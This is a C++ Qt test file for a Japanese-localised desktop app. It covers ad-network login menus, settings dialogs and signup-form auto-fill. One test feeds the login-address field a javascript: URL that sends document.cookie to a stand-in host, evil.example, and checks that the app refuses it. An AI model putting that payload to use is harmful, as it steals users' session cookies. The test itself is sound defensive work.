#include "formserver.h"

#include "gui/common/browserwindow.h"
#include "gui/common/datatext.h"
#include "gui/common/messagebox.h"
#include "gui/mainwindow.h"
#include "gui/networks/fmnetworks.h"
#include "gui/networks/signupchecker.h"
#include "gui/workspace.h"
#include "net/curlftpclient.h"
#include "networks/definitions.h"
#include "networks/network.h"
#include "networks/siteinfo.h"
#include "settings/inilist.h"
#include "settings/settingsfile.h"
#include "shell/onlineservices.h"

#include "gui/common/actionlist.h"
#include <QApplication>
#include <QCheckBox>
#include <QComboBox>
#include <QElapsedTimer>
#include <QFile>
#include <QFileInfo>
#include <QLineEdit>
#include <QMenu>
#include <QNetworkAccessManager>
#include <QNetworkProxy>
#include <QNetworkReply>
#include <QPlainTextEdit>
#include <QPushButton>
#include <QScopeGuard>
#include <QSignalSpy>
#include <QTcpServer>
#include <QTemporaryDir>
#include <QTest>
#include <QTimer>
#include <QToolButton>
#include <QTreeWidget>

using namespace pw;
using namespace pw::gui;

namespace {

std::unique_ptr<TMainForm> StartForm(const QString& settings, const QString& scratch)
{
    auto form = std::make_unique<TMainForm>(settings, scratch, net::CurlFtpClientFactory());
    form->startUp();
    return form;
}

std::unique_ptr<TNetwork> MakeNetwork(const QString& name, const QString& loginUrl)
{
    auto network = std::make_unique<TNetwork>();
    network->Name = ToData(name);
    network->LoginURL = ToData(loginUrl);
    network->FieldUser = "uid";
    network->FieldPassword = "pw";
    return network;
}

// Writes Pagewick.ini holding `networks` into `folder`.
void SaveNetworksFile(const QString& folder, const NetworkList& networks)
{
    TIniList store;
    SaveNetworks(store, networks);
    QVERIFY(SaveSettingsFile(store, folder.toStdString(), kMainSettingsFile).ok);
}

// One system network whose signup form is the fixture page at `address`,
// filled with the profile's e-mail.
void SaveSignupNetwork(const QString& folder, const QString& address)
{
    NetworkList networks;
    networks.push_back(MakeNetwork(QStringLiteral("システム"), QString()));
    networks.back()->System = "SYS1";
    networks.back()->Regist = "reg:EMail=*email; ";
    networks.back()->RegistURL = ToData(address);
    SaveNetworksFile(folder, networks);
}

QList<BrowserWindow*> WindowsNamed(const QString& name)
{
    QList<BrowserWindow*> found;
    for (QWidget* w : QApplication::topLevelWidgets())
        if (auto* b = qobject_cast<BrowserWindow*>(w); b && b->objectName() == name && !b->isClosed())
            found << b;
    return found;
}

// What the fixture's answer page shows: the POST it received, or an empty object.
QJsonObject Received(BrowserWindow* window)
{
    const auto r = window->runScript(
        QStringLiteral("const e = document.getElementById('got'); return e ? e.textContent : '';"));
    if (!r.ok || r.value.toString().isEmpty())
        return {};
    return QJsonDocument::fromJson(r.value.toString().toUtf8()).object();
}

void CloseAll(const QString& name)
{
    for (BrowserWindow* w : WindowsNamed(name))
        w->close();
    QCoreApplication::sendPostedEvents(nullptr, QEvent::DeferredDelete);
}

template <typename T> T* Child(QWidget* parent, const char* name)
{
    T* w = parent->findChild<T*>(QLatin1String(name));
    if (!w)
        qFatal("no widget %s", name);
    return w;
}

void Type(QWidget* dialog, const char* name, const QString& text)
{
    auto* edit = Child<QLineEdit>(dialog, name);
    edit->setText(text);
    emit edit->editingFinished();
}

void ClickRow(QWidget* dialog, int row)
{
    auto* list = Child<QTreeWidget>(dialog, "LVNetworks");
    list->setCurrentItem(list->topLevelItem(row));
}

QStringList RowTexts(QWidget* dialog)
{
    auto* list = Child<QTreeWidget>(dialog, "LVNetworks");
    QStringList rows;
    for (int i = 0; i < list->topLevelItemCount(); ++i)
        rows << list->topLevelItem(i)->text(0);
    return rows;
}

// Loads a settings file of `folder` into `store`.
const TIniList& LoadStore(TIniList&& store, const QString& folder, std::string_view name)
{
    const Status loaded = LoadSettingsFile(store, folder.toStdString(), name);
    if (!loaded)
        qWarning("%s", loaded.error.c_str());
    return store;
}

} // namespace

class NetworksTest : public QObject {
    Q_OBJECT

private slots:
    void initTestCase() { QVERIFY(m_server.start()); }

    void init()
    {
        m_messages.clear();
        SetMessageHandler([this](MessageType, const QString& text) {
            m_messages << text;
            return QMessageBox::Ok;
        });
    }

    // The menu lists the networks with logins, numbered, a network with two
    // logins as a submenu; each item posts its login to the network.
    void loginMenuPostsTheLogin()
    {
        QTemporaryDir settings;
        QTemporaryDir scratch;
        NetworkList networks;
        networks.push_back(MakeNetwork(QStringLiteral("ログインなし"), m_server.url(QStringLiteral("none"))));
        networks.push_back(MakeNetwork(QStringLiteral("エーネット"), m_server.url(QStringLiteral("login"))));
        networks.back()->FieldOthers = R"(<input type=hidden name=site value="x1">)";
        networks.back()->SetLogin(
            ToData(QStringLiteral("基本設定")), ToData(QStringLiteral("ユーザー名")), "a&b\"c<d>e");
        networks.push_back(MakeNetwork(QStringLiteral("ビーネット"), m_server.url(QStringLiteral("enter"))));
        networks.back()->SetLogin(ToData(QStringLiteral("基本設定")), "first", "p1");
        networks.back()->SetLogin(ToData(QStringLiteral("設定2")), "second", "p2");
        SaveNetworksFile(settings.path(), networks);

        auto form = StartForm(settings.path(), scratch.path());
        auto* menu = form->findChild<QMenu*>(QStringLiteral("PMLogin"));
        QVERIFY(menu);
        QVERIFY(form->findChild<QToolButton*>(QStringLiteral("TBLogin"))->isEnabled());
        const QList<QAction*> items = menu->actions();
        QCOMPARE(items.size(), 2);
        QCOMPARE(items[0]->text(), QStringLiteral("[&1]エーネット"));
        QCOMPARE(items[1]->text(), QStringLiteral("[&2]ビーネット"));
        QVERIFY(items[1]->menu());
        const QList<QAction*> subItems = items[1]->menu()->actions();
        QCOMPARE(subItems.size(), 2);
        QCOMPARE(subItems[0]->text(), QStringLiteral("基本設定"));
        QCOMPARE(subItems[1]->text(), QStringLiteral("設定2"));

        items[0]->trigger();
        QList<BrowserWindow*> windows = WindowsNamed(QStringLiteral("LoginWindow"));
        QCOMPARE(windows.size(), 1);
        QVERIFY(windows[0]->isMaximized());
        QJsonObject got;
        QTRY_VERIFY_WITH_TIMEOUT(!(got = Received(windows[0])).isEmpty(), 20000);
        QCOMPARE(got.value(QStringLiteral("path")).toString(), QStringLiteral("/login"));
        const QJsonObject fields = got.value(QStringLiteral("fields")).toObject();
        QCOMPARE(fields.value(QStringLiteral("uid")).toString(), QStringLiteral("ユーザー名"));
        QCOMPARE(fields.value(QStringLiteral("pw")).toString(), QStringLiteral("a&b\"c<d>e"));
        QCOMPARE(fields.value(QStringLiteral("site")).toString(), QStringLiteral("x1"));
        // The user name went out in the network's own encoding, Shift_JIS.
        QVERIFY2(got.value(QStringLiteral("raw"))
                     .toString()
                     .contains(QStringLiteral("uid=%83%86%81%5B%83U%81%5B%96%BC")),
            qPrintable(got.value(QStringLiteral("raw")).toString()));

        // The page file sits in the private scratch folder, for the owner only.
        const QString pageFile = QString::fromStdString(form->workspace().ScratchFiles[0]);
        QCOMPARE(QFileInfo(pageFile).absolutePath(), QString::fromStdString(form->workspace().Scratch.Path()));
        QVERIFY(QString::fromStdString(form->workspace().Scratch.Path()).startsWith(scratch.path()));
        QCOMPARE(QFileInfo(pageFile).permissions()
                & (QFile::ReadGroup | QFile::WriteGroup | QFile::ReadOther | QFile::WriteOther | QFile::ExeOwner),
            QFile::Permissions());

        // The next login replaces the page.
        BrowserWindow* first = windows[0];
        subItems[1]->trigger();
        windows = WindowsNamed(QStringLiteral("LoginWindow"));
        QCOMPARE(windows.size(), 2);
        BrowserWindow* second = windows[0] == first ? windows[1] : windows[0];
        QTRY_VERIFY_WITH_TIMEOUT(!(got = Received(second)).isEmpty()
                && got.value(QStringLiteral("path")).toString() == QStringLiteral("/enter"),
            20000);
        QCOMPARE(got.value(QStringLiteral("fields")).toObject().value(QStringLiteral("uid")).toString(),
            QStringLiteral("second"));
        QFile page(pageFile);
        QVERIFY(page.open(QIODevice::ReadOnly));
        const QByteArray bytes = page.readAll();
        QVERIFY(bytes.contains("value=\"second\""));
        QVERIFY(bytes.contains("<meta charset=\"Shift_JIS\">"));
        QVERIFY(!bytes.contains("a&amp;b"));
        QVERIFY(m_messages.isEmpty());
        // Closing the main window closes the login windows with it.
        QVERIFY(form->close());
        QVERIFY(WindowsNamed(QStringLiteral("LoginWindow")).isEmpty());
    }

    // Without a network with logins the login button stays off.
    void noLoginsNoMenu()
    {
        QTemporaryDir settings;
        NetworkList networks;
        networks.push_back(MakeNetwork(QStringLiteral("ログインなし"), m_server.url(QStringLiteral("none"))));
        SaveNetworksFile(settings.path(), networks);
        auto form = StartForm(settings.path(), settings.path());
        QVERIFY(form->findChild<QMenu*>(QStringLiteral("PMLogin"))->isEmpty());
        QVERIFY(!form->findChild<QToolButton*>(QStringLiteral("TBLogin"))->isEnabled());
    }

    // A login address typed in the dialog that is not http(s) with a host is
    // named at once, and a login to it is refused without a window.
    void dialogRefusesAnUnsafeLoginAddress()
    {
        QTemporaryDir settings;
        NetworkList networks;
        networks.push_back(MakeNetwork(QStringLiteral("エーネット"), m_server.url(QStringLiteral("login"))));
        SaveNetworksFile(settings.path(), networks);
        auto form = StartForm(settings.path(), settings.path());
        auto* dialog = form->findChild<TFmNetworks*>();
        bool ran = false;
        QTimer::singleShot(0, dialog, [&] {
            ran = true;
            const QString unsafe = QStringLiteral("javascript:fetch('//evil.example/?'+document.cookie)");
            Type(dialog, "EdLoginURL", unsafe);
            QCOMPARE(m_messages.size(), 1);
            QVERIFY2(
                m_messages[0].contains(unsafe) && m_messages[0].contains(QStringLiteral("http: または https:")),
                qPrintable(m_messages[0]));
            Type(dialog, "EdUser", QStringLiteral("me"));
            Type(dialog, "EdPassword", QStringLiteral("secret"));
            Child<QPushButton>(dialog, "P3DLogon")->click();
            QCOMPARE(m_messages.size(), 2);
            QCOMPARE(m_messages[1], m_messages[0]);
            QVERIFY(WindowsNamed(QStringLiteral("LoginWindow")).isEmpty());
            Child<QPushButton>(dialog, "BtnClose")->click();
        });
        form->findChild<QAction*>(QStringLiteral("MINetwork"))->trigger();
        QTRY_VERIFY(ran);
        QTRY_VERIFY(!dialog->isVisible());
    }

    // Logins and profiles edited in the dialog reach the files and the login
    // menu when the dialog closes.
    void dialogStoresLoginsAndProfiles()
    {
        QTemporaryDir settings;
        NetworkList networks;
        networks.push_back(MakeNetwork(QStringLiteral("エーネット"), m_server.url(QStringLiteral("login"))));
        networks.push_back(MakeNetwork(QStringLiteral("ビーネット"), QString()));
        SaveNetworksFile(settings.path(), networks);
        auto form = StartForm(settings.path(), settings.path());
        auto* dialog = form->findChild<TFmNetworks*>();
        QVERIFY(dialog);
        QCOMPARE(RowTexts(dialog), QStringList({ QStringLiteral("エーネット"), QStringLiteral("ビーネット") }));
        QCOMPARE(Child<QComboBox>(dialog, "CBAddr1")->count(), 48);
        QCOMPARE(Child<QComboBox>(dialog, "CBAddr1")->itemText(13), QStringLiteral("東京都"));

        QStringList answers = { QStringLiteral(" 設定2 "), QStringLiteral("設定3") };
        TFmNetworks::SetInputHandler(
            [&](const QString&, const QString&, const QString&) -> std::optional<QString> {
                if (answers.isEmpty())
                    return std::nullopt;
                return answers.takeFirst();
            });
        bool ran = false;
        QTimer::singleShot(0, dialog, [&] {
            ran = true;
            QCOMPARE(dialog->CurrentNetwork(), form->workspace().Networks[0].get());
            auto* logon = Child<QPushButton>(dialog, "P3DLogon");
            QVERIFY(!logon->property("active").toBool());
            Type(dialog, "EdUser", QStringLiteral(" 山田 "));
            QCOMPARE(Child<QLineEdit>(dialog, "EdUser")->text(), QStringLiteral("山田"));
            QVERIFY(logon->property("active").toBool());
            Type(dialog, "EdPassword", QStringLiteral("p&\"<"));
            // The login button commits the login and posts it.
            logon->click();
            const QList<BrowserWindow*> logins = WindowsNamed(QStringLiteral("LoginWindow"));
            QCOMPARE(logins.size(), 1);
            QJsonObject got;
            QTRY_VERIFY_WITH_TIMEOUT(!(got = Received(logins[0])).isEmpty(), 20000);
            QCOMPARE(got.value(QStringLiteral("fields")).toObject().value(QStringLiteral("pw")).toString(),
                QStringLiteral("p&\"<"));
            CloseAll(QStringLiteral("LoginWindow"));
            Type(dialog, "EdEMail", QStringLiteral("  me@example.jp "));
            Child<QComboBox>(dialog, "CBAddr1")->setCurrentIndex(13);
            Type(dialog, "EdPhone", QStringLiteral("0312345678"));
            QCOMPARE(m_messages, QStringList({ QStringLiteral("例:00-0000-0000") }));
            Type(dialog, "EdPhone", QStringLiteral("03-1234-5678"));
            Type(dialog, "EdSiteUrl", QStringLiteral("www.example.jp"));
            QCOMPARE(m_messages.size(), 2);

            // A new profile copies the current one and has no login yet.
            Child<QPushButton>(dialog, "BtnNewSite")->click();
            QCOMPARE(FromData(dialog->CurrentSiteInfo()->SetupName), QStringLiteral("設定2"));
            QCOMPARE(Child<QLineEdit>(dialog, "EdEMail")->text(), QStringLiteral("me@example.jp"));
            QCOMPARE(Child<QComboBox>(dialog, "CBAddr1")->currentIndex(), 13);
            QVERIFY(Child<QLineEdit>(dialog, "EdUser")->text().isEmpty());
            Type(dialog, "EdUser", QStringLiteral("second"));
            Type(dialog, "EdPassword", QStringLiteral("pw2"));
            // Renaming carries the login along.
            Child<QPushButton>(dialog, "BtnChgSite")->click();
            QCOMPARE(Child<QComboBox>(dialog, "CBSiteInfos")->currentText(), QStringLiteral("設定3"));
            ClickRow(dialog, 1);
            ClickRow(dialog, 0);
            QCOMPARE(Child<QLineEdit>(dialog, "EdUser")->text(), QStringLiteral("second"));

            // Back to the first profile; a delete question answered other than Yes keeps it.
            auto* profiles = Child<QComboBox>(dialog, "CBSiteInfos");
            profiles->setCurrentIndex(0);
            emit profiles->activated(0);
            QCOMPARE(Child<QLineEdit>(dialog, "EdUser")->text(), QStringLiteral("山田"));
            Child<QPushButton>(dialog, "BtnDelSite")->click(); // answered Ok: not Yes
            QCOMPARE(profiles->count(), 2);
            Child<QPushButton>(dialog, "BtnClose")->click();
        });
        form->findChild<QAction*>(QStringLiteral("MINetwork"))->trigger();
        QTRY_VERIFY(ran);
        QTRY_VERIFY(!dialog->isVisible());
        TFmNetworks::SetInputHandler({});

        // Both files hold the edits; the menu offers the two logins.
        NetworkList stored;
        LoadNetworks(LoadStore(TIniList(), settings.path(), kMainSettingsFile), stored);
        QCOMPARE(stored.size(), size_t(2));
        const TLoginInfo* first = stored[0]->FindLogin(ToData(QStringLiteral("基本設定")));
        QVERIFY(first);
        QCOMPARE(FromData(first->User), QStringLiteral("山田"));
        QCOMPARE(first->Password, std::string("p&\"<"));
        QVERIFY(stored[0]->FindLogin(ToData(QStringLiteral("設定3"))));
        SiteInfoList profiles;
        LoadSiteInfos(LoadStore(TIniList(), settings.path(), kProfileFile), profiles);
        QCOMPARE(profiles.size(), size_t(2));
        QCOMPARE(profiles[0]->EMail, std::string("me@example.jp"));
        QCOMPARE(profiles[0]->Addr1, 13);
        QCOMPARE(profiles[0]->Phone, std::string("03-1234-5678"));
        QCOMPARE(FromData(profiles[1]->SetupName), QStringLiteral("設定3"));
        auto* menu = form->findChild<QMenu*>(QStringLiteral("PMLogin"));
        QCOMPARE(menu->actions().size(), 1);
        QVERIFY(menu->actions()[0]->menu());
        QCOMPARE(menu->actions()[0]->menu()->actions().size(), 2);
    }

    // Network names: clashes refused, new names numbered on, deletion asked.
    void dialogNetworkList()
    {
        QTemporaryDir settings;
        NetworkList networks;
        networks.push_back(MakeNetwork(QStringLiteral("新広告代理店名1"), QString()));
        networks.push_back(MakeNetwork(QStringLiteral("新広告代理店名7"), QString()));
        networks.push_back(MakeNetwork(QStringLiteral("システム"), QString()));
        networks.back()->System = "SYS1";
        networks.back()->Regist = "reg:EMail=*email;Zip=zip;Name1==AccountName; ";
        SaveNetworksFile(settings.path(), networks);
        auto form = StartForm(settings.path(), settings.path());
        auto* dialog = form->findChild<TFmNetworks*>();
        dialog->show();

        Type(dialog, "EdName", QStringLiteral("新広告代理店名7"));
        QCOMPARE(
            m_messages, QStringList({ QStringLiteral("設定名は使われています、別の設定名を入力してください。") }));
        ClickRow(dialog, 2);
        QCOMPARE(m_messages.size(), 2);
        QCOMPARE(dialog->CurrentNetwork(), form->workspace().Networks[0].get());
        QCOMPARE(
            Child<QTreeWidget>(dialog, "LVNetworks")->currentItem()->text(0), QStringLiteral("新広告代理店名1"));
        Type(dialog, "EdName", QStringLiteral("改名"));
        ClickRow(dialog, 2);
        QCOMPARE(FromData(form->workspace().Networks[0]->Name), QStringLiteral("改名"));

        // The system network: fields read-only, its Regist marks the profile fields.
        QVERIFY(Child<QLineEdit>(dialog, "EdLoginURL")->isReadOnly());
        QVERIFY(Child<QPushButton>(dialog, "P3DRegist")->property("active").toBool());
        auto base
            = [&](const char* name) { return Child<QWidget>(dialog, name)->palette().color(QPalette::Base); };
        QCOMPARE(base("EdEMail"), QColor(Qt::yellow));
        QCOMPARE(base("EdZip"), QColor(166, 202, 240));
        QCOMPARE(base("EdFax"), dialog->palette().color(QPalette::Button));
        Child<QLineEdit>(dialog, "EdName1")->setText(QStringLiteral("鈴木"));
        QCOMPARE(Child<QLineEdit>(dialog, "EdAccountName")->text(), QStringLiteral("鈴木"));

        Child<QPushButton>(dialog, "BtnNew")->click();
        QCOMPARE(RowTexts(dialog).last(), QStringLiteral("新広告代理店名8"));
        QCOMPARE(dialog->CurrentNetwork(), form->workspace().Networks[3].get());
        QVERIFY(!Child<QPushButton>(dialog, "P3DRegist")->property("active").toBool());

        // Deleting the system network says so; answered "no", nothing goes.
        ClickRow(dialog, 2);
        m_messages.clear();
        Child<QPushButton>(dialog, "BtnDel")->click();
        QCOMPARE(m_messages,
            QStringList({ QStringLiteral(
                "システムで設定されたネットワーク名です。ほんとうに削除してもよろしいでしょうか？") }));
        QCOMPARE(form->workspace().Networks.size(), size_t(4));
        SetMessageHandler([](MessageType, const QString&) { return QMessageBox::Yes; });
        Child<QPushButton>(dialog, "BtnDel")->click();
        QCOMPARE(form->workspace().Networks.size(), size_t(3));
        QCOMPARE(RowTexts(dialog),
            QStringList(
                { QStringLiteral("改名"), QStringLiteral("新広告代理店名7"), QStringLiteral("新広告代理店名8") }));
        QCOMPARE(dialog->CurrentNetwork(), form->workspace().Networks[2].get());
        for (int i = 0; i < 3; ++i)
            Child<QPushButton>(dialog, "BtnDel")->click();
        QCOMPARE(dialog->CurrentNetwork(), nullptr);
        QVERIFY(!Child<QPushButton>(dialog, "P3DLogon")->property("active").toBool());
        dialog->hide();
    }

    // Maintainer mode shows the system fields and exports the definitions.
    void maintainerExport()
    {
        QTemporaryDir settings;
        NetworkList networks;
        networks.push_back(MakeNetwork(QStringLiteral("システム"), QStringLiteral("https://s.example/login")));
        networks.back()->System = "SYS1";
        networks.push_back(MakeNetwork(QStringLiteral("自分の"), QString()));
        SaveNetworksFile(settings.path(), networks);
        auto form = StartForm(settings.path(), settings.path());
        auto* dialog = form->findChild<TFmNetworks*>();
        dialog->show();
        QVERIFY(!dialog->maintainerMode());
        QTest::mouseClick(Child<QWidget>(dialog, "Label8"), Qt::LeftButton, Qt::ControlModifier);
        QVERIFY(!dialog->maintainerMode());
        QTest::mouseClick(Child<QWidget>(dialog, "Label8"), Qt::LeftButton,
            Qt::ControlModifier | Qt::ShiftModifier | Qt::AltModifier);
        QVERIFY(dialog->maintainerMode());
        QVERIFY(Child<QWidget>(dialog, "SBSaveSystem")->isVisible());
        // With every field shown the dialog still fits a 1280x800 screen,
        // title bar and panel included.
        QCoreApplication::processEvents();
        QVERIFY2(dialog->minimumSizeHint().height() <= 720,
            qPrintable(QString::number(dialog->minimumSizeHint().height())));
        QVERIFY2(dialog->height() <= 720, qPrintable(QString::number(dialog->height())));
        QVERIFY(dialog->width() <= 1280);

        TFmNetworks::SetInputHandler([](const QString& caption, const QString&, const QString& value) {
            return caption == QLatin1String("Network Version") && value == QLatin1String("1")
                ? std::optional<QString>(QStringLiteral("2"))
                : std::nullopt;
        });
        QSignalSpy exported(dialog, &TFmNetworks::definitionsExported);
        // The export opens the settings text editor on the three stores; its
        // confirmation writes the edited lines through the normal save path.
        bool edited = false;
        QTimer::singleShot(0, dialog, [&] {
            auto* editor = form->findChild<QDialog*>(QStringLiteral("FmEditIni"));
            QVERIFY(editor && editor->isVisible());
            auto* memo = Child<QPlainTextEdit>(editor, "Memo2");
            QVERIFY(memo->toPlainText().contains(QStringLiteral("[Network1]")));
            QVERIFY(memo->toPlainText().contains(QStringLiteral("Name=システム")));
            memo->appendPlainText(QStringLiteral("[Extra]\nKey=値"));
            Child<QPushButton>(editor, "BitBtn1")->click();
            edited = true;
        });
        Child<QPushButton>(dialog, "SBSaveSystem")->click();
        QVERIFY(edited);
        QCOMPARE(
            FromData(LoadStore(TIniList(), settings.path(), kMainSettingsFile).ReadString("Extra", "Key", "")),
            QStringLiteral("値"));
        QCOMPARE(FromData(form->workspace().IniListSetup.ReadString("Extra", "Key", "")), QStringLiteral("値"));
        TFmNetworks::SetInputHandler({});
        QCOMPARE(exported.size(), 1);
        const QString file = exported[0][0].toString();
        QCOMPARE(QFileInfo(file).fileName(), QStringLiteral("nwks.txt"));
        QVERIFY(QFileInfo::exists(file));

        // The export merges back: one system network, version 2.
        QFile in(file);
        QVERIFY(in.open(QIODevice::ReadOnly));
        std::string body = in.readAll().toStdString();
        NetworkList merged;
        TIniList scratch, store;
        int version = 1;
        QVERIFY(ApplyNetworkUpdate(scratch, body, merged, store, version).ok);
        QCOMPARE(version, 2);
        QCOMPARE(merged.size(), size_t(1));
        QCOMPARE(merged[0]->LoginURL, std::string("https://s.example/login"));
        dialog->hide();
    }

    // The checker fills the signup form of real pages: the page itself, a
    // frame, three encodings, a list and radio buttons, and a form reached
    // through two links. It never submits, and never touches a frame of
    // another origin (an ad's) nor lets the page see its commands.
    void signupFillOnRealPages()
    {
        test::FormServer a, b;
        QVERIFY(a.start(QStringLiteral(PAGEWICK_TEST_DATA "/signup")));
        QVERIFY(b.start(QStringLiteral(PAGEWICK_TEST_DATA "/signup")));
        QTemporaryDir settings;
        NetworkList networks;
        networks.push_back(MakeNetwork(QStringLiteral("システム"), QString()));
        networks.back()->System = "SYS1";
        networks.back()->Regist
            = "reg:EMail=*email;Name1=name1;Name2=name2;SiteName=site;Addr1=pref;#1#AccountType=kind;#0:0:1:1:# ";
        SaveNetworksFile(settings.path(), networks);
        SiteInfoList profiles;
        profiles.push_back(std::make_unique<TSiteInfo>());
        TSiteInfo& p = *profiles.back();
        p.SetupName = ToData(QStringLiteral("基本設定"));
        p.EMail = "me@example.jp";
        p.Name1 = ToData(QStringLiteral("山田"));
        p.Name2 = ToData(QStringLiteral("太郎"));
        p.SiteName = ToData(QStringLiteral("サイト名・テスト"));
        p.Addr1 = 13;
        p.AccountType = 1;
        TIniList profileStore;
        SaveSiteInfos(profileStore, profiles);
        QVERIFY(SaveSettingsFile(profileStore, settings.path().toStdString(), kProfileFile).ok);

        auto form = StartForm(settings.path(), settings.path());
        auto* dialog = form->findChild<TFmNetworks*>();
        TNetwork* network = form->workspace().Networks[0].get();
        dialog->show();
        QCOMPARE(dialog->CurrentNetwork(), network);

        struct Case {
            QString page;
            QList<int> frame; // where the form is
            int clicks; // links to follow before the form shows
        };
        const Case cases[] = {
            { QStringLiteral("plain.html"), {}, 0 },
            { QStringLiteral("sjis.html"), {}, 0 },
            { QStringLiteral("eucjp.html"), {}, 0 },
            { QStringLiteral("frameset.html"), { 1 }, 0 },
            { QStringLiteral("xorigin.html#%1").arg(b.port()), { 1 }, 0 },
            { QStringLiteral("start.html"), {}, 2 },
        };
        // The explanation comes first, until its box is ticked.
        int explained = 0;
        auto* explanation = form->findChild<QDialog*>(QStringLiteral("FmMessage"));
        auto answerExplanation = [&] {
            QTimer::singleShot(0, explanation, [&] {
                if (!explanation->isVisible())
                    return;
                ++explained;
                Child<QCheckBox>(explanation, "CBShowMsg")->setChecked(true);
                Child<QPushButton>(explanation, "BtnGo")->click();
            });
        };
        for (const Case& c : cases) {
            const QString address = a.url(c.page);
            Child<QLineEdit>(dialog, "EdRegistURL")->setText(address);
            answerExplanation();
            Child<QPushButton>(dialog, "P3DRegist")->click();
            QCOMPARE(explained, 1);
            BrowserWindow* window = dialog->signupWindow(*network);
            QVERIFY2(window, qPrintable(c.page));
            QVERIFY(window->isMaximized());
            QVERIFY(window->waitUntilReady(20000));
            for (int i = 0; i < c.clicks; ++i) {
                dialog->checkSignupWindows(); // nothing to fill on the way
                QVERIFY(window->runScript(QStringLiteral("document.getElementById('next').click();")).ok);
                QTRY_VERIFY_WITH_TIMEOUT(window->readyState() == BrowserWindow::Complete
                        && window->runScript(QStringLiteral("return document.readyState;")).value.toString()
                            == QLatin1String("complete"),
                    20000);
            }
            const QString read = QStringLiteral(
                "const f = document.forms['reg']; if (!f) return null;"
                "return [f.email.value, f.name1.value, f.name2.value, f.site.value, String(f.pref.selectedIndex),"
                "        String(f.kind[0].checked), String(f.kind[1].checked), location.pathname];");
            QStringList values;
            QTRY_VERIFY_WITH_TIMEOUT(
                (dialog->checkSignupWindows(), values = window->runScript(read, c.frame).value.toStringList(),
                    values.value(0) == QLatin1String("me@example.jp")),
                20000);
            QCOMPARE(values.mid(1, 6),
                QStringList({ QStringLiteral("山田"), QStringLiteral("太郎"), QStringLiteral("サイト名・テスト"),
                    QStringLiteral("14"), QStringLiteral("false"), QStringLiteral("true") }));
            QVERIFY2(!values.value(7).contains(QLatin1String("submitted")), qPrintable(values.value(7)));
            if (c.page.startsWith(QLatin1String("xorigin"))) {
                // The ad's frame of another origin kept its form empty, and the
                // page heard nothing but the ad's own reports.
                QTest::qWait(500);
                dialog->checkSignupWindows();
                QTest::qWait(300);
                const QStringList seen
                    = window->runScript(QStringLiteral("return document.getElementById('seen').textContent;"))
                          .value.toString()
                          .split(QLatin1Char('\n'), Qt::SkipEmptyParts);
                QVERIFY(!seen.isEmpty());
                for (const QString& message : seen)
                    QCOMPARE(message, QStringLiteral("{\"ad\":\"\"}"));
            }

            // Typed over in the page, a value stays as the user left it.
            QVERIFY(
                window->runScript(QStringLiteral("document.forms['reg'].email.value = 'typed@x';"), c.frame).ok);
            dialog->checkSignupWindows();
            QCOMPARE(window->runScript(QStringLiteral("return document.forms['reg'].email.value;"), c.frame)
                         .value.toString(),
                QStringLiteral("typed@x"));

            // A second click brings the same window forward.
            Child<QPushButton>(dialog, "P3DRegist")->click();
            QCOMPARE(dialog->signupWindow(*network), window);

            // Closed by the user, the window is dropped without a word.
            window->close();
            dialog->checkSignupWindows();
            QCOMPARE(dialog->signupWindow(*network), nullptr);
            QCOMPARE(network->SignupBrowser, nullptr);
            QVERIFY(m_messages.isEmpty());
            QCoreApplication::sendPostedEvents(nullptr, QEvent::DeferredDelete);
        }
        dialog->hide();
    }

    // The fill runs by itself while the dialog shows, and stops when it hides.
    void signupFillRunsWhileTheDialogShows()
    {
        test::FormServer a;
        QVERIFY(a.start(QStringLiteral(PAGEWICK_TEST_DATA "/signup")));
        QTemporaryDir settings;
        SaveSignupNetwork(settings.path(), a.url(QStringLiteral("plain.html")));
        auto form = StartForm(settings.path(), settings.path());
        auto* dialog = form->findChild<TFmNetworks*>();
        QVERIFY(!dialog->signupChecker()->isRunning());
        dialog->show();
        QVERIFY(dialog->signupChecker()->isRunning());
        Type(dialog, "EdEMail", QStringLiteral("auto@example.jp"));
        Child<QCheckBox>(form->findChild<QDialog*>(QStringLiteral("FmMessage")), "CBShowMsg")->setChecked(true);
        Child<QPushButton>(dialog, "P3DRegist")->click();
        BrowserWindow* window = dialog->signupWindow(*form->workspace().Networks[0]);
        QVERIFY(window);
        QTRY_COMPARE_WITH_TIMEOUT(
            window->runScript(QStringLiteral("return document.forms['reg'].email.value;")).value.toString(),
            QStringLiteral("auto@example.jp"), 20000);
        dialog->hide();
        QVERIFY(!dialog->signupChecker()->isRunning());
        window->close();
        QVERIFY(m_messages.isEmpty());
    }

    // Opened from its menu item as the program opens it, the dialog leaves the
    // signup window it opens usable: keys typed there reach the page, and the
    // fill goes on, while the dialog shows.
    void signupWindowTakesKeysWhileTheDialogShows()
    {
        test::FormServer a;
        QVERIFY(a.start(QStringLiteral(PAGEWICK_TEST_DATA "/signup")));
        QTemporaryDir settings;
        SaveSignupNetwork(settings.path(), a.url(QStringLiteral("plain.html")));
        auto form = StartForm(settings.path(), settings.path());
        form->show();
        auto* dialog = form->findChild<TFmNetworks*>();
        QString typed, filled;
        bool done = false;
        // Runs once the dialog shows, whether its opening returned or not.
        QTimer::singleShot(0, dialog, [&] {
            const auto finish = qScopeGuard([&] {
                dialog->reject();
                done = true;
            });
            QVERIFY(dialog->isVisible());
            Type(dialog, "EdEMail", QStringLiteral("auto@example.jp"));
            Child<QCheckBox>(form->findChild<QDialog*>(QStringLiteral("FmMessage")), "CBShowMsg")
                ->setChecked(true);
            Child<QPushButton>(dialog, "P3DRegist")->click();
            BrowserWindow* window = dialog->signupWindow(*form->workspace().Networks[0]);
            QVERIFY(window);
            const auto value = [window](const char* field) {
                return window
                    ->runScript(QStringLiteral("return document.forms['reg'].%1.value;").arg(QLatin1String(field)))
                    .value.toString();
            };
            QTRY_COMPARE_WITH_TIMEOUT(value("email"), QStringLiteral("auto@example.jp"), 20000);
            filled = value("email");
            window->activateWindow();
            QVERIFY(QTest::qWaitForWindowActive(window));
            window->runScript(QStringLiteral("document.forms['reg'].site.focus(); return 0;"));
            for (const char key : { 'a', 'b', 'c' })
                QTest::keyClick(window->windowHandle(), key);
            QTRY_COMPARE_WITH_TIMEOUT(value("site"), QStringLiteral("abc"), 5000);
            typed = value("site");
            QVERIFY(dialog->signupChecker()->isRunning());
        });
        form->findChild<QAction*>(QStringLiteral("MINetwork"))->trigger();
        QTRY_VERIFY_WITH_TIMEOUT(done, 30000);
        QCOMPARE(filled, QStringLiteral("auto@example.jp"));
        QCOMPARE(typed, QStringLiteral("abc"));
        QTRY_VERIFY(!dialog->isVisible());
        QVERIFY(!dialog->signupChecker()->isRunning());
        QVERIFY(m_messages.isEmpty());
    }

